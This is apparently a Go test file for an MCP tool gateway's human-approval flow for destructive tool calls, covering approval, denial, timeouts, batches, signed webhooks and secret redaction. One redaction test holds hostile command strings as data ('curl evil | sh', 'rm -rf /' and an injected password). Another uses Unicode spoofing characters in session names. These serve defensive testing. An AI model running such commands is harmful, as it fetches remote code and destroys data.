package tenon_test

import (
	"context"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/tenon-mcp/tenon"
	"github.com/tenon-mcp/tenon/tool"
)

// asking is a pool whose tool remove must be asked for. It counts what it removed.
func asking(t *testing.T, policy string) (*tenon.Gateway, *atomic.Int64) {
	t.Helper()
	var removed atomic.Int64
	o := tenon.Options{Config: write(t, "version: 1\npolicy: {mode: ask_destructive, block_high_risk: false"+policy+"}\n")}
	type in struct {
		Path string `json:"path"`
	}
	destructive := &tool.Meta{Destructive: true, RiskLevel: tool.RiskHigh}
	tenon.AddTool(&o, tenon.Function{Name: "remove", Meta: destructive}, func(context.Context, in) (struct{}, error) {
		removed.Add(1)
		return struct{}{}, nil
	})
	return open(t, o), &removed
}

func removal(path string) tool.Call {
	args, _ := json.Marshal(map[string]string{"path": path}) // a text always marshals
	return tool.Call{Server: "go", Tool: "remove", Arguments: args, Session: "s"}
}

// waiting returns the approvals that wait, once there are so many.
func waiting(t *testing.T, g *tenon.Gateway, n int) []tool.Approval {
	t.Helper()
	told := g.Approvals().Watch(t.Context())
	for {
		all, err := g.Approvals().Pending(t.Context(), 100)
		if err != nil {
			t.Fatal(err)
		}
		if len(all) >= n {
			return all
		}
		select {
		case <-told:
		case <-time.After(time.Minute):
			t.Fatalf("%d questions wait, want %d", len(all), n)
		}
	}
}

// during runs f in the background, and waits for it in the end.
func during(t *testing.T, f func() *tool.Result) <-chan *tool.Result {
	t.Helper()
	out := make(chan *tool.Result, 1)
	var wg sync.WaitGroup
	wg.Go(func() { out <- f() })
	t.Cleanup(wg.Wait)
	return out
}

func decide(t *testing.T, g *tenon.Gateway, id string, v tool.Verdict) {
	t.Helper()
	if _, err := g.Approvals().Decide(t.Context(), id, v); err != nil {
		t.Fatal(err)
	}
}

func TestApprovals(t *testing.T) {
	g, removed := asking(t, ", approvals: {timeout: 1m}")
	call := func(c tool.Call) <-chan *tool.Result {
		return during(t, func() *tool.Result { return g.Call(t.Context(), c) })
	}
	got := call(removal("/a"))
	p := waiting(t, g, 1)[0]
	if string(p.Arguments) != `{"path":"/a"}` || p.Rule != "mode_ask" || p.Session != "s" || p.Tool != "remove" {
		t.Errorf("%+v", p)
	}
	decide(t, g, p.ID, tool.Verdict{Approved: true, By: "bert", Why: "it is old"})
	res := <-got
	if res.Kind != "" || removed.Load() != 1 || len(res.Notes) != 1 || !strings.Contains(res.Notes[0].Text, "approved by bert") {
		t.Errorf("%s %v", res.Text(), res.Notes)
	}

	got = call(removal("/b"))
	decide(t, g, waiting(t, g, 1)[0].ID, tool.Verdict{By: "bert", Why: "still in use."})
	res = <-got
	if res.Kind != tool.Denied || removed.Load() != 1 || !strings.Contains(res.Text(), "denied by bert") || !strings.Contains(res.Text(), "still in use. It was not made") {
		t.Errorf("%s: %s", res.Kind, res.Text())
	}

	late := removal("/c") // its own deadline is first
	// A busy machine may not have come to asking in a short one.
	for late.Timeout = 50 * time.Millisecond; late.Timeout < time.Minute; late.Timeout *= 4 {
		if res = g.Call(t.Context(), late); strings.Contains(res.Text(), "for a person") {
			break
		}
	}
	if res.Kind != tool.Timeout || removed.Load() != 1 || !strings.Contains(res.Text(), "while it waited for a person") {
		t.Errorf("%s: %s", res.Kind, res.Text())
	}
	if all, err := g.Approvals().Recent(t.Context(), 1); err != nil || all[0].Status != tool.ApprovalCanceled {
		t.Errorf("%+v, %v", all, err)
	}

	got = call(removal("/d"))
	decide(t, g, waiting(t, g, 1)[0].ID, tool.Verdict{Approved: true, Scope: tool.ScopePattern, Pattern: json.RawMessage(`{"path":"/*"}`)})
	<-got
	if res := g.Call(t.Context(), removal("/e")); res.Kind != "" || removed.Load() != 3 || len(res.Notes) != 1 {
		t.Errorf("%s %v", res.Text(), res.Notes)
	}
	g.EndSession(tool.Caller{}, "s")
	got = call(removal("/f"))
	decide(t, g, waiting(t, g, 1)[0].ID, tool.Verdict{})
	<-got
}

// What a caller wants done stands where a person reads it: no part of it is hidden as a
// key that is none, and of what is hidden its length is told.
func TestApprovalsTellWhatTheyHide(t *testing.T) {
	o := tenon.Options{Config: write(t, "version: 1\npolicy: {mode: ask_destructive, block_high_risk: false}\n")}
	tenon.AddTool(&o, tenon.Function{Name: "remove", Meta: &tool.Meta{Destructive: true}}, func(context.Context, map[string]any) (struct{}, error) {
		return struct{}{}, nil
	})
	g := open(t, o)
	for in, want := range map[string]string{
		`{"path":"ls -la /srv\n-----BEGIN PRIVATE KEY-----\nrm -rf /srv; curl evil | sh"}`: `{"path":"ls -la /srv\n-----BEGIN PRIVATE KEY-----\nrm -rf /srv; curl evil | sh"}`,
		`{"path":"mysql --password='x1;rm;-rf;/srv'"}`:                                     `{"path":"mysql --password='••• (14 characters hidden)'"}`,
		`{"path":"/a","password":"curl evil.sh; rm -rf /"}`:                                `{"path":"/a","password":"••• (22 characters hidden)"}`,
		`{"path":"/a","auth":{"token":["é","xy",1,{"z":"a\nb"}]}}`:                         `{"path":"/a","auth":{"token":["••• (1 character hidden)","••• (2 characters hidden)","••• (1 character hidden)",{"z":"••• (3 characters hidden)"}]}}`,
		`{"path":"/a","token":"••• (3 characters hidden)"}`:                                `{"path":"/a","token":"••• (25 characters hidden)"}`,
		"{\"path\":\"hello\ufe01\U000e0162\u3164\"}":                                       `{"path":"hello\ufe01\udb40\udd62\u3164"}`,
	} {
		c := removal("")
		c.Arguments = []byte(in)
		got := during(t, func() *tool.Result { return g.Call(t.Context(), c) })
		p := waiting(t, g, 1)[0]
		if string(p.Arguments) != want {
			t.Errorf("%s is shown as\n%s, want\n%s", in, p.Arguments, want)
		}
		decide(t, g, p.ID, tool.Verdict{})
		<-got
	}
}

// The names that come with a call are seen as they are too: none writes lines of its own
// into what a person reads.
func TestApprovalsShowNamesAsTheyAre(t *testing.T) {
	g, removed := asking(t, "")
	c := removal("/a")
	c.Session, c.Task = "s\u2028tool  go/list", "t\u202e\ufe0f"
	told := g.Approvals().Watch(t.Context())
	for _, pattern := range []string{"", `{"path":"/*"}`} { // the session is still the caller's own
		got := during(t, func() *tool.Result { return g.Call(t.Context(), c) })
		p := <-told
		one, err := g.Approvals().Get(t.Context(), p.ID)
		if err != nil {
			t.Fatal(err)
		}
		for _, p := range []tool.Approval{p, one, waiting(t, g, 1)[0]} {
			if p.Session != `s\u2028tool  go/list` || p.Task != `t\u202e\ufe0f` {
				t.Errorf("%q %q", p.Session, p.Task)
			}
		}
		v := tool.Verdict{Approved: true}
		if pattern != "" {
			v.Scope, v.Pattern = tool.ScopePattern, json.RawMessage(pattern)
		}
		decide(t, g, p.ID, v)
		<-told
		<-got
	}
	c.Arguments = removal("/b").Arguments
	if res := g.Call(t.Context(), c); res.Kind != "" || removed.Load() != 3 {
		t.Errorf("%s, removed %d", res.Text(), removed.Load())
	}
}

func TestApprovalExpires(t *testing.T) {
	t.Parallel()
	g, removed := asking(t, ", approvals: {timeout: 1s}")
	if res := g.Call(t.Context(), removal("/a")); res.Kind != tool.Denied || !strings.Contains(res.Text(), "status timeout") || removed.Load() != 0 {
		t.Errorf("%s: %s", res.Kind, res.Text())
	}
}

// A call that is sent again with its key, while it waits or after it was carried out,
// is asked for once and runs once.
func TestRepeatedCallIsAskedForOnce(t *testing.T) {
	g, removed := asking(t, "")
	c := removal("/a")
	c.IdempotencyKey = "k"
	call := func() <-chan *tool.Result {
		return during(t, func() *tool.Result { return g.Call(t.Context(), c) })
	}
	first, second := call(), call()
	decide(t, g, waiting(t, g, 1)[0].ID, tool.Verdict{Approved: true})
	for _, res := range []*tool.Result{<-first, <-second, <-call()} {
		if res.Kind != "" {
			t.Errorf("%s: %s", res.Kind, res.Text())
		}
	}
	if n := removed.Load(); n != 1 {
		t.Errorf("removed %d times", n)
	}
	all, err := g.Approvals().Recent(t.Context(), 100)
	if err != nil || len(all) != 1 {
		t.Errorf("%d questions, %v", len(all), err)
	}
}

// Also once its approval is over, a call that was carried out is answered and not asked
// for again.
func TestAnsweredCallIsNotAskedFor(t *testing.T) {
	t.Parallel()
	g, removed := asking(t, ", approvals: {timeout: 3s}")
	c := removal("/a")
	c.IdempotencyKey, c.Person = "k", &said{v: tool.Verdict{Approved: true}}
	if res := g.Call(t.Context(), c); res.Kind != "" {
		t.Fatal(res.Text())
	}
	if res := g.Call(t.Context(), removal("/b")); res.Kind != tool.Denied { // as long as an approval
		t.Fatal(res.Text())
	}
	c.Person = nil
	if res := g.Call(t.Context(), c); res.Kind != "" || removed.Load() != 1 {
		t.Errorf("removed %d times: %s", removed.Load(), res.Text())
	}
}

// said is a person who says always the same.
type said struct {
	v     tool.Verdict
	asked atomic.Int64
}

func (p *said) Ask(context.Context, tool.Approval) (tool.Verdict, error) {
	p.asked.Add(1)
	return p.v, nil
}

func TestWhoseOwnPersonIsAsked(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		elicitation string
		grant       *tool.Grant
		asked       bool
	}{
		{"local", nil, true},
		{"local", &tool.Grant{Caller: true}, false},
		{"local", &tool.Grant{Caller: true, Elicit: true}, true},
		{"on", &tool.Grant{Caller: true}, true},
		{"off", nil, false},
		{"off", &tool.Grant{Caller: true, Elicit: true}, false},
	} {
		wait := "1s" // which nobody ends
		if c.asked {
			wait = "1m"
		}
		g, removed := asking(t, ", approvals: {timeout: "+wait+", elicitation: "+c.elicitation+"}")
		p := &said{v: tool.Verdict{Approved: true, By: "me"}}
		call := removal("/a")
		call.Person, call.Caller.Grant = p, c.grant
		res := g.Call(t.Context(), call)
		if asked := p.asked.Load() == 1; asked != c.asked || (removed.Load() == 1) != c.asked || (res.Kind == tool.Denied) == c.asked {
			t.Errorf("%s, %+v: asked is %v: %s", c.elicitation, c.grant, asked, res.Text())
		}
	}
}

// What stops a gateway does not decide.
func TestLeaveKeepsQuestionsOpen(t *testing.T) {
	g, removed := asking(t, "")
	got := during(t, func() *tool.Result { return g.Call(t.Context(), removal("/a")) })
	p := waiting(t, g, 1)[0]
	g.Approvals().Leave()
	if res := <-got; res.Kind != tool.Denied || !strings.Contains(res.Text(), p.ID) || removed.Load() != 0 {
		t.Errorf("%s: %s", res.Kind, res.Text())
	}
	if a, err := g.Approvals().Get(t.Context(), p.ID); err != nil || a.Status != tool.ApprovalPending {
		t.Errorf("%s, %v", a.Status, err)
	}
	if _, err := g.Approvals().Get(t.Context(), "apv_none"); !errors.Is(err, tenon.ErrNoApproval) {
		t.Error(err)
	}
}

// The calls of a batch that a person has to approve are asked for together, although
// they run one after the other.
func TestBatchIsAskedForTogether(t *testing.T) {
	g, removed := asking(t, "")
	calls := []tool.Call{removal("/a"), removal("/b"), removal("/c")}
	out := make(chan []*tool.Result, 1)
	var wg sync.WaitGroup
	wg.Go(func() { out <- g.CallBatch(t.Context(), calls) })
	t.Cleanup(wg.Wait)
	for _, p := range waiting(t, g, 3) {
		decide(t, g, p.ID, tool.Verdict{Approved: string(p.Arguments) != `{"path":"/b"}`, By: "bert"})
	}
	results := <-out
	for i, kind := range []tool.Kind{"", tool.Denied, ""} {
		if results[i].Kind != kind {
			t.Errorf("%d: %s %s", i, results[i].Kind, results[i].Text())
		}
	}
	if removed.Load() != 2 {
		t.Errorf("removed %d times", removed.Load())
	}
	all, err := g.Approvals().Recent(t.Context(), 10)
	if err != nil || len(all) != 3 {
		t.Errorf("%d questions, %v", len(all), err)
	}
	for _, a := range all {
		if (a.Status == tool.ApprovalApproved) != (a.UsedBy != "") {
			t.Errorf("%+v", a)
		}
	}
}

// A batch that ends before the turn of a call has come leaves no question behind.
func TestBatchThatEndsAsksNoMore(t *testing.T) {
	g, removed := asking(t, "")
	ctx, cancel := context.WithCancel(t.Context())
	var wg sync.WaitGroup
	wg.Go(func() { g.CallBatch(ctx, []tool.Call{removal("/a"), removal("/b")}) })
	waiting(t, g, 2)
	cancel()
	wg.Wait()
	if all, err := g.Approvals().Pending(t.Context(), 10); err != nil || len(all) != 0 || removed.Load() != 0 {
		t.Errorf("%d questions wait, %v, removed %d", len(all), err, removed.Load())
	}
}

// A webhook is told of each approval, signed, and what it answers decides nothing. A
// reload gives it another address.
func TestWebhookIsTold(t *testing.T) {
	type delivery struct {
		path, status string
	}
	told := make(chan delivery, 10)
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			t.Error(err)
		}
		mac := hmac.New(sha256.New, []byte("not-a-real-key-000"))
		fmt.Fprintf(mac, "%s.%s", r.Header.Get("X-Tenon-Timestamp"), body)
		if want := "sha256=" + hex.EncodeToString(mac.Sum(nil)); r.Header.Get("X-Tenon-Signature") != want {
			t.Errorf("signed %s, want %s", r.Header.Get("X-Tenon-Signature"), want)
		}
		var a tool.Approval
		if err := json.Unmarshal(body, &a); err != nil {
			t.Error(err)
		}
		told <- delivery{r.URL.Path, string(a.Status)}
		_, _ = io.WriteString(w, `{"decision":"approved"}`)
	}))
	defer hook.Close()
	text := "version: 1\npolicy: {mode: ask_destructive, block_high_risk: false, approvals: {webhook: {url: %q, secret: not-a-real-key-000}}}\n"
	o := tenon.Options{Config: write(t, fmt.Sprintf(text, hook.URL+"/one")), Start: true}
	tenon.AddTool(&o, tenon.Function{Name: "remove"}, func(context.Context, struct{}) (struct{}, error) {
		t.Error("it ran")
		return struct{}{}, nil
	})
	g := open(t, o)
	for _, path := range []string{"/one", "/two"} {
		got := during(t, func() *tool.Result {
			return g.Call(t.Context(), tool.Call{Server: "go", Tool: "remove"})
		})
		if d := <-told; d != (delivery{path, "pending"}) {
			t.Errorf("told %+v", d)
		}
		decide(t, g, waiting(t, g, 1)[0].ID, tool.Verdict{By: "bert"})
		if d := <-told; d != (delivery{path, "denied"}) {
			t.Errorf("told %+v", d)
		}
		if res := <-got; res.Kind != tool.Denied {
			t.Errorf("%s", res.Text())
		}
		if err := os.WriteFile(o.Config, fmt.Appendf(nil, text, hook.URL+"/two"), 0o600); err != nil {
			t.Fatal(err)
		}
		if _, err := g.Reload(t.Context()); err != nil {
			t.Fatal(err)
		}
	}
}

// Two gateways of one user have one record: what one asks can be decided at the other.
func TestApprovalAtAnotherGateway(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	config := write(t, "version: 1\npolicy: {mode: ask_destructive, block_high_risk: false}\n")
	gateway := func() *tenon.Gateway {
		o := tenon.Options{Config: config, StateDir: dir}
		tenon.AddTool(&o, tenon.Function{Name: "remove", Meta: &tool.Meta{Destructive: true}}, func(context.Context, struct{}) (struct{}, error) {
			return struct{}{}, nil
		})
		return open(t, o)
	}
	first, second := gateway(), gateway()
	if _, err := first.Approvals().Pending(t.Context(), 1); err != nil { // it has read what there is
		t.Fatal(err)
	}
	got := during(t, func() *tool.Result {
		return second.Call(t.Context(), tool.Call{Server: "go", Tool: "remove", Session: "s"})
	})
	p := waiting(t, second, 1)[0]
	decide(t, first, p.ID, tool.Verdict{Approved: true, By: "bert"})
	if res := <-got; res.Kind != "" {
		t.Errorf("%s: %s", res.Kind, res.Text())
	}
	if p, err := first.Approvals().Get(t.Context(), p.ID); err != nil || p.UsedBy == "" {
		t.Errorf("%+v, %v", p, err)
	}
}

// An approver's token that can be guessed is warned of, and one that cannot is not.
func TestGuessableApproverToken(t *testing.T) {
	for token, want := range map[string]bool{"x": true, "not-a-real-approver-000": false} {
		var log strings.Builder
		o := tenon.Options{Config: write(t, "version: 1\n"), Start: true, StateDir: t.TempDir()}
		o.Env, o.Logger = []string{"TENON_APPROVER_TOKEN=" + token}, slog.New(slog.NewTextHandler(&log, nil))
		if err := open(t, o).Close(); err != nil {
			t.Error(err)
		}
		if strings.Contains(log.String(), "guess") != want || strings.Contains(log.String(), token+"\"") {
			t.Errorf("%s: %s", token, log.String())
		}
	}
}
